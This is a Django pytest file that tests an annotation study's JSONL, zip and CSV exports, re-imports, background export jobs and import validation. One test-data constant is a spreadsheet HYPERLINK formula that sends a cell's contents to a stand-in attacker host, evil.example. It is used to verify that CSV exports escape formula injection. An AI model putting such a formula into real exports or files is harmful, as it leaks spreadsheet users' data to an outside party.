"""Exports: JSONL and zip rebuild the study elsewhere; CSV has one row per annotation."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest

from annotations.interchange.annotation_import import annotations_import
from annotations.interchange.exports import export_csv, export_job_create, export_jsonl, export_to_file
from annotations.interchange.item_import import items_import
from annotations.interchange.study_import import study_import
from annotations.models import Annotation, AnnotationRevision, ExportJob, Item, ItemImage, Study
from common.errors import ImportRefused
from tests.annotations.imagefiles import write_png
from tests.helpers import streamed
from tests.s3_server import FileStore, fetch_download

pytestmark = pytest.mark.django_db

VOLATILE = {"created_at", "updated_at", "replaced_at"}


def comparable(study: Study) -> list[dict]:
    """Export records without timestamps (which a rebuild cannot keep) and with the name unified."""
    records = []
    for line in export_jsonl(study):
        record = json.loads(line)
        for key in VOLATILE:
            record.pop(key, None)
        for revision in record.get("revisions", []):
            for key in VOLATILE:
                revision.pop(key, None)
        if record["type"] == "study":
            record.pop("name")
        if record["type"] == "annotation":
            record.pop("source")
        records.append(record)
    return records


@pytest.fixture
def filled_study(study, tmp_path):
    write_png(tmp_path / "imgs" / "a.png", (10, 20, 30), size=(100, 80))
    write_png(tmp_path / "imgs" / "b.png", (30, 20, 10))
    (tmp_path / "imgs" / "manifest.jsonl").write_text(
        json.dumps(
            {
                "external_id": "a",
                "file": "a.png",
                "prompt": "a <b>doctor</b>",
                "condition": "gender:women",
                "seed": 7,
                "model": "sd",
                "metadata": {"note": "ünïcode"},
            }
        )
        + "\n"
        + json.dumps({"external_id": "b", "file": "b.png"})
        + "\n"
    )
    items_import(study=study, address=tmp_path / "imgs")
    lines: list[dict[str, Any]] = [
        {"item": "a", "annotator": "r1", "question": "gender", "value": "female"},
        {
            "item": "a",
            "annotator": "r1",
            "question": "attributes",
            "value": ["hat"],
            "shown": ["hat", "beard"],
        },
        {
            "item": "a",
            "annotator": "r1",
            "question": "boxes",
            "value": [{"option": "hat", "x": 1, "y": 1, "w": 9, "h": 9}],
        },
        {
            "item": "a",
            "annotator": "clip",
            "annotator_kind": "machine",
            "annotator_version": "v1",
            "question": "gender",
            "value": "male",
        },
        {
            "item": "b",
            "annotator": "r2",
            "question": "smiling",
            "value": 1,
            "reason": "teeth",
            "pool": "expert",
        },
    ]
    (tmp_path / "a.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    annotations_import(study=study, address=tmp_path / "a.jsonl")
    lines[0]["value"] = "male"
    (tmp_path / "b.jsonl").write_text(json.dumps(lines[0]) + "\n")
    annotations_import(study=study, address=tmp_path / "b.jsonl")  # an edit: one revision
    return study


def test_jsonl_export_reimports_losslessly(filled_study, owner, tmp_path) -> None:
    out = tmp_path / "study.jsonl"
    export_to_file(filled_study, "jsonl", out)
    rebuilt = study_import(owner=owner, address=out, name="copy")
    original, copy = comparable(filled_study), comparable(rebuilt)
    # Without the image bytes, items come back as references that remember their file names.
    for record in copy:
        if record["type"] == "item":
            assert record["is_reference"] and record["files"] == []
            record["metadata"].pop("exported_files")
    for record in original:
        if record["type"] == "item":
            record["is_reference"], record["files"], record["sha256"] = True, [], ""
    assert copy == original
    assert AnnotationRevision.objects.filter(annotation__study=rebuilt).count() == 1


def test_zip_export_carries_the_image_files(file_store: FileStore, filled_study, owner, tmp_path) -> None:
    out = tmp_path / "study.zip"
    export_to_file(filled_study, "zip", out)
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        stored = {image.sha256: file_store.read(image.file.name) for image in ItemImage.objects.all()}
        assert sorted(archive.read(n) for n in names if n.startswith("files/")) == sorted(stored.values())
    assert "study.jsonl" in names and sum(name.startswith("files/") for name in names) == 2
    rebuilt = study_import(owner=owner, address=out)
    assert comparable(rebuilt) == comparable(filled_study)
    assert Item.objects.get(study=rebuilt, external_id="a").images.get().width == 100
    assert len(file_store.names("items/")) == 4  # the rebuilt study stored its own copies


def test_a_study_import_refused_after_its_files_leaves_none_behind(
    file_store: FileStore, filled_study, owner, tmp_path
) -> None:
    out = tmp_path / "study.zip"
    export_to_file(filled_study, "zip", out)
    before = file_store.names()
    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(out) as source, zipfile.ZipFile(broken, "w") as target:
        for member in source.namelist():
            data = source.read(member)
            if member == "study.jsonl":  # an answer to no question of the protocol, read after the items
                data = data.replace(b'"question": "gender"', b'"question": "no-such-question"')
                assert b"no-such-question" in data
            target.writestr(member, data)
    with pytest.raises(ImportRefused):
        study_import(owner=owner, address=broken)
    assert Study.objects.count() == 1 and file_store.names() == before


def test_a_background_zip_export_is_stored_and_downloads(
    file_store: FileStore, filled_study, owner, client, django_capture_on_commit_callbacks
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_create(study=filled_study, user=owner, fmt="zip")
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and file_store.names("exports/") == [job.file.name]
    client.force_login(owner)
    response = client.get(f"/studies/{filled_study.pk}/exports/{job.pk}/")
    body = fetch_download(response, file_store)
    assert body == file_store.read(job.file.name) and body[:2] == b"PK"


def test_csv_has_one_row_per_annotation_with_provenance(filled_study) -> None:
    rows = list(csv.DictReader(io.StringIO("".join(export_csv(filled_study)))))
    assert len(rows) == Annotation.objects.filter(study=filled_study).count() == 5
    first = next(row for row in rows if row["question"] == "attributes")
    assert first["prompt"] == "a <b>doctor</b>" and first["condition"] == "gender:women"
    assert json.loads(first["value"]) == ["hat"] and json.loads(first["shown"]) == ["hat", "beard"]


def test_a_background_export_job_writes_a_downloadable_file(
    filled_study, owner, django_capture_on_commit_callbacks
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_create(study=filled_study, user=owner, fmt="csv")
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    with job.file.open("rb") as handle:
        assert handle.read().decode().startswith("item,item_kind,condition")


def test_round_trip_keeps_controls_consensus_adjudication_and_exclusions(
    filled_study, owner, tmp_path
) -> None:
    from annotations.models import Annotator, AnnotatorExclusion, ConsensusLabel
    from annotations.services.consensus import consensus_adjudicate, consensus_compute
    from annotations.services.controls import control_mark
    from annotations.services.quality import annotator_exclude, annotator_reinstate

    study = filled_study
    item_a, item_b = (
        Item.objects.get(study=study, external_id="a"),
        Item.objects.get(study=study, external_id="b"),
    )
    Item.objects.filter(pk=item_a.pk).update(expert_only=True)
    control_mark(
        study=study, item=item_b, kind="attention", answers={"gender": "female"}, note="Pick 'female'."
    )
    consensus_compute(study=study, question="gender")
    consensus_adjudicate(
        study=study, item=item_a, question_key="gender", value="female", user=owner, note="clear"
    )
    r2 = Annotator.objects.get(study=study, name="r2")
    annotator_exclude(study=study, annotator=r2, user=owner, reason="rushed")
    annotator_reinstate(study=study, annotator=r2, user=owner, note="checked again")
    annotator_exclude(study=study, annotator=r2, user=owner, reason="rushed, for good")
    out = tmp_path / "study.zip"
    export_to_file(study, "zip", out)

    rebuilt = study_import(owner=owner, address=out)
    assert comparable(rebuilt) == comparable(study)  # every record, the new kinds included
    copy_b = Item.objects.get(study=rebuilt, external_id="b")
    assert (copy_b.control_kind, copy_b.control_answers, copy_b.note) == (
        "attention",
        {"gender": "female"},
        "Pick 'female'.",
    )
    assert Item.objects.get(study=rebuilt, external_id="a").expert_only
    label = ConsensusLabel.objects.get(study=rebuilt, item__external_id="a", question_key="gender")
    assert (label.value, label.rule, label.adjudicated_by, label.note) == (
        "female",
        "adjudicated",
        owner,
        "clear",
    )
    history = list(
        AnnotatorExclusion.objects.filter(study=rebuilt)
        .order_by("excluded_at")
        .values_list("annotator__name", "reason", "reinstated_at", "reinstate_note")
    )
    assert [(name, reason, note) for name, reason, _at, note in history] == [
        ("r2", "rushed", "checked again"),
        ("r2", "rushed, for good", ""),
    ]
    assert history[0][2] is not None and history[1][2] is None


def test_an_export_whose_control_answers_no_longer_fit_is_refused(filled_study, owner, tmp_path) -> None:
    lines = [json.loads(line) for line in export_jsonl(filled_study)]
    for record in lines:
        if record["type"] == "item" and record["external_id"] == "b":
            record["control"] = {"kind": "gold", "answers": {"gender": "robot"}}
    (tmp_path / "bad.jsonl").write_text("".join(json.dumps(record) + "\n" for record in lines))
    from common.errors import ImportRefused

    with pytest.raises(ImportRefused, match=r"control answers: gender: .*robot"):
        study_import(owner=owner, address=tmp_path / "bad.jsonl")
    assert not Study.objects.exclude(pk=filled_study.pk).exists()  # nothing half-imported


@pytest.mark.parametrize(
    ("record", "message"),
    [
        (
            {"type": "consensus", "item": "a", "question": "gender", "value": "male", "confidence": "high"},
            r"line \d+: a consensus record's support, confidence or n_votes is malformed",
        ),
        (
            {"type": "consensus", "item": "a", "question": "gender", "value": "male", "n_votes": -2},
            r"n_votes -2 is negative",
        ),
        (
            {"type": "consensus", "item": "nope", "question": "gender", "value": "male"},
            r"consensus for unknown item 'nope'",
        ),
        (
            {"type": "exclusion", "annotator": "r1", "reason": "x", "excluded_at": "yesterday"},
            r"'yesterday' is not a date and time",
        ),
    ],
)
def test_malformed_consensus_and_exclusion_records_are_refused_by_line(
    filled_study, owner, tmp_path, record, message
) -> None:
    from common.errors import ImportRefused

    lines = [*export_jsonl(filled_study), json.dumps(record) + "\n"]
    (tmp_path / "bad.jsonl").write_text("".join(lines))
    with pytest.raises(ImportRefused, match=message):
        study_import(owner=owner, address=tmp_path / "bad.jsonl")
    assert Study.objects.count() == 1  # nothing half-imported


def test_two_open_exclusions_of_one_person_are_refused(filled_study, owner, tmp_path) -> None:
    from common.errors import ImportRefused

    twice = [
        {"type": "exclusion", "annotator": "r1", "reason": "x", "excluded_at": "2026-11-01T10:00:00+00:00"},
        {"type": "exclusion", "annotator": "r1", "reason": "y", "excluded_at": "2026-11-02T10:00:00+00:00"},
    ]
    (tmp_path / "bad.jsonl").write_text(
        "".join([*export_jsonl(filled_study), *(json.dumps(r) + "\n" for r in twice)])
    )
    with pytest.raises(ImportRefused, match="'r1' is excluded twice"):
        study_import(owner=owner, address=tmp_path / "bad.jsonl")
    assert Study.objects.count() == 1


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def formula_study(study, owner, annotator_user):
    """An annotator's reason and an imported prompt that a spreadsheet would run as formulas."""
    from annotations.services.studies import enrollment_add
    from tests.factories import ItemFactory
    from tests.helpers import client_for

    study.overlap = 1
    study.save()
    ItemFactory(study=study, external_id="@cmd", prompt="-2+3")
    enrollment_add(study=study, user=annotator_user)
    api = client_for(annotator_user)
    pk = api.post(f"/api/studies/{study.pk}/assignments/next/").json()["id"]
    answers = {
        "gender": {"value": "male"},
        "attributes": {"value": ["none_of_the_above"]},
        "smiling": {"value": 1, "reason": FORMULA},
    }
    assert api.post(f"/api/assignments/{pk}/submit/", {"answers": answers}, format="json").status_code == 200
    return study


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_escapes_formula_cells_unless_raw_is_asked_for(formula_study, owner, tmp_path) -> None:
    from django.core.management import call_command
    from django.test import Client

    from tests.helpers import client_for

    study = formula_study
    api = client_for(owner)
    page = Client()
    page.force_login(owner)
    for response in (
        api.get(f"/api/studies/{study.pk}/export/csv/"),
        page.get(f"/studies/{study.pk}/export/csv/"),
    ):
        smiling = next(r for r in _rows(b"".join(streamed(response)).decode()) if r["question"] == "smiling")
        assert smiling["reason"] == "'" + FORMULA
        assert (smiling["item"], smiling["prompt"]) == ("'@cmd", "'-2+3")
        assert smiling["value"] == "1" and smiling["time_spent_ms"] == ""
    for response in (
        api.get(f"/api/studies/{study.pk}/export/csv/?raw=1"),
        page.get(f"/studies/{study.pk}/export/csv/?raw=1"),
    ):
        smiling = next(r for r in _rows(b"".join(streamed(response)).decode()) if r["question"] == "smiling")
        assert (smiling["reason"], smiling["item"], smiling["prompt"]) == (FORMULA, "@cmd", "-2+3")
    out = io.StringIO()
    call_command("export", str(study.pk), "--format", "csv", stdout=out)
    assert "'" + FORMULA.replace('"', '""') in out.getvalue()
    raw = tmp_path / "raw.csv"
    call_command("export", str(study.pk), "--format", "csv", "--raw", "--out", str(raw))
    assert next(r for r in _rows(raw.read_text()) if r["question"] == "smiling")["reason"] == FORMULA


def test_a_background_csv_export_keeps_the_raw_choice(
    formula_study, owner, django_capture_on_commit_callbacks
) -> None:
    from tests.helpers import client_for

    api = client_for(owner)
    for query, expected in (("", "'" + FORMULA), ("&raw=1", FORMULA)):
        with django_capture_on_commit_callbacks(execute=True):
            response = api.post(f"/api/studies/{formula_study.pk}/export/csv/?background=1{query}")
        assert response.status_code == 202 and response.json()["raw"] == bool(query)
        job = ExportJob.objects.get(pk=response.json()["id"])
        with job.file.open("rb") as handle:
            rows = _rows(handle.read().decode())
        assert next(r for r in rows if r["question"] == "smiling")["reason"] == expected


def test_an_archive_links_only_the_importers_own_people(
    filled_study, owner, other_researcher, tmp_path
) -> None:
    """Issue 24, M3 (study archives): ``adjudicated_by``, ``excluded_by`` and ``reinstated_by`` are
    usernames; imported by another researcher they linked the owner's account into their study. Now
    only the people of the importer's own studies are linked; anyone else is left empty."""
    from annotations.models import Annotator, AnnotatorExclusion, ConsensusLabel
    from annotations.services.consensus import consensus_adjudicate, consensus_compute
    from annotations.services.quality import annotator_exclude

    study = filled_study
    consensus_compute(study=study, question="gender")
    item = Item.objects.get(study=study, external_id="a")
    consensus_adjudicate(study=study, item=item, question_key="gender", value="female", user=owner, note="x")
    annotator_exclude(
        study=study, annotator=Annotator.objects.get(study=study, name="r2"), user=owner, reason="rushed"
    )
    out = tmp_path / "study.zip"
    export_to_file(study, "zip", out)
    theirs = study_import(owner=other_researcher, address=out)
    label = ConsensusLabel.objects.get(study=theirs, item__external_id="a", question_key="gender")
    exclusion = AnnotatorExclusion.objects.get(study=theirs)
    assert (label.value, label.adjudicated_by, exclusion.excluded_by) == ("female", None, None)
    mine = study_import(owner=owner, address=out)
    assert (
        ConsensusLabel.objects.get(study=mine, item__external_id="a", question_key="gender").adjudicated_by
        == owner
    )
    assert AnnotatorExclusion.objects.get(study=mine).excluded_by == owner


def test_the_overlap_policy_travels_with_the_study(filled_study, owner, tmp_path) -> None:
    from annotations.services.studies import study_overlap_set

    filled_study = study_overlap_set(study=filled_study, policy="agree:2/3", question="gender")
    out = tmp_path / "study.jsonl"
    export_to_file(filled_study, "jsonl", out)
    head = json.loads(out.read_text().splitlines()[0])
    assert (head["overlap_policy"], head["overlap_question"], head["overlap"]) == ("agree:2/3", "gender", 3)
    rebuilt = study_import(owner=owner, address=out, name="copy")
    assert (rebuilt.overlap_policy, rebuilt.overlap_question, rebuilt.overlap) == ("agree:2/3", "gender", 3)

    def states(study: Study) -> dict[str, tuple[Any, ...]]:
        return {
            item.external_id: (item.policy_slots, item.policy_stopped, sorted(item.policy_votes.values()))
            for item in Item.objects.filter(study=study)
        }

    # Imported answers (r1's, r2's) take no slot and cast no policy vote: both items open at the opening.
    assert states(rebuilt) == states(filled_study) == {"a": (None, False, []), "b": (None, False, [])}


def test_an_export_whose_policy_does_not_parse_is_refused_with_its_line(
    filled_study, owner, tmp_path
) -> None:
    out = tmp_path / "study.jsonl"
    export_to_file(filled_study, "jsonl", out)
    lines = out.read_text().splitlines()
    head = json.loads(lines[0])
    head["overlap_policy"] = "agree:5/2"
    out.write_text("\n".join([json.dumps(head), *lines[1:]]) + "\n")
    with pytest.raises(ImportRefused, match=r"^line 1: .*agree"):
        study_import(owner=owner, address=out, name="copy")
    assert not Study.objects.filter(name="copy").exists()
